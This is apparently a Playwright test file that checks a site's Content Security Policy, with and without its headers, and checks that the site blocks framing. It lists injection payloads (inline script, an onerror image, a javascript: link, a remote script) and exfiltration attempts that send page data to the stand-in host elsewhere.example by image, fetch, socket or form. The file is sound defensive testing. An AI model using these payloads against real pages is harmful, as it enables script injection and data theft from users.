import type { Page, Route } from '@playwright/test'
import { expect, test } from '../helpers/local-site-fixture.ts'

/* What somebody would try who can write into a page. Each leaves `attacked` behind where it gets through. One way for
   each directive: that none of them takes a keyword or a wildcard, build/policy.test.ts. */

const elsewhere = 'https://elsewhere.example'

const attacks: Record<string, (elsewhere: string) => unknown> = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.append('globalThis.attacked = true')
    document.head.append(script)
  },
  'a script of another site': (elsewhere) => {
    const script = document.createElement('script')
    script.setAttribute('src', `${elsewhere}/attack.js`)
    document.head.append(script)
  },
  'an event handler': () => document.body.setAttribute('onclick', 'globalThis.attacked = true'),
  // Later: what a driven browser evaluates itself may do so.
  'code from a string': () => setTimeout(() => Reflect.construct(Function, ['globalThis.attacked = true'])()),
  'markup from a string': () => {
    document.body.innerHTML = '<img src=x onerror="globalThis.attacked = true">'
  },
  'a frame of another site': (elsewhere) => {
    const frame = document.createElement('iframe')
    frame.src = `${elsewhere}/`
    document.body.append(frame)
  },
  'a link that runs': () => {
    const link = document.createElement('a')
    link.href = 'javascript:globalThis.attacked = true'
    document.body.append(link)
    link.click()
  },
  'an inline style': () => {
    const style = document.createElement('style')
    style.append(':root { --attacked: yes }')
    document.head.append(style)
  },
  'a style sheet of another site': (elsewhere) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `${elsewhere}/attack.css`
    document.head.append(link)
  },
  'a picture of another site, which would carry words away': (elsewhere) => {
    new Image().src = `${elsewhere}/?words`
  },
  'a request to another site': (elsewhere) => fetch(`${elsewhere}/?words`),
  'a socket': (elsewhere) => new WebSocket(elsewhere.replace('https', 'wss')),
  'another base for every link': (elsewhere) => {
    const base = document.createElement('base')
    base.href = elsewhere
    document.head.append(base)
    if (document.baseURI.startsWith(elsewhere)) Object.assign(globalThis, { attacked: true })
  },
  'a form that sends elsewhere': (elsewhere) => {
    const form = document.createElement('form')
    form.action = elsewhere
    form.method = 'post'
    document.body.append(form)
    form.submit()
  },
}

// On the page with the most script. That every document has the same policy: build/policy.test.ts.
for (const headers of [true, false]) {
  const host = headers ? 'a host' : 'a host that drops the headers'
  test(`nothing gets into the page from ${host}`, async ({ page, context, site, troubles }) => {
    test.slow()
    troubles.allow(/./)
    const asked: string[] = []
    await context.route(`${elsewhere}/**`, (route) => {
      asked.push(route.request().url())
      return route.fulfill({ body: 'globalThis.attacked = true', contentType: 'text/javascript' })
    })
    // Documents alone have a policy; they have no ending.
    const isDocument = ({ origin, pathname }: URL) => origin === site.url && !pathname.includes('.')
    if (!headers) await context.route(isDocument, withoutPolicy)
    for (const [name, run] of Object.entries(attacks)) {
      await test.step(name, async () => {
        await page.goto('/schedule')
        expect.soft(await attack(page, run), name).toEqual({ refused: true, attacked: false, style: '' })
        expect.soft(new URL(page.url()).origin, name).toBe(site.url)
        expect.soft(asked.splice(0), name).toEqual([])
      })
    }
  })
}

test('no page is shown in a frame of another site', async ({ page, site, troubles }) => {
  troubles.allow(/./)
  await page.route(`${elsewhere}/`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.url}/"></iframe>` }),
  )
  await page.goto(`${elsewhere}/`)
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
})

async function withoutPolicy(route: Route): Promise<void> {
  const response = await route.fetch()
  const { 'content-security-policy': _, ...headers } = response.headers()
  await route.fulfill({ response, headers })
}

/** What is left of an attack on the page that is open. */
async function attack(page: Page, run: (elsewhere: string) => unknown) {
  const refusal = page.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve(true), { once: true })
        setTimeout(resolve, 10_000, false)
      }),
  )
  // Half of them throw; what counts is what they leave behind.
  await page.evaluate(run, elsewhere).catch(() => {})
  await page.locator('body').click({ position: { x: 1, y: 1 }, force: true })
  const refused = await refusal
  return page.evaluate(
    (refused) => ({
      refused,
      attacked: 'attacked' in globalThis,
      style: getComputedStyle(document.documentElement).getPropertyValue('--attacked'),
    }),
    refused,
  )
}
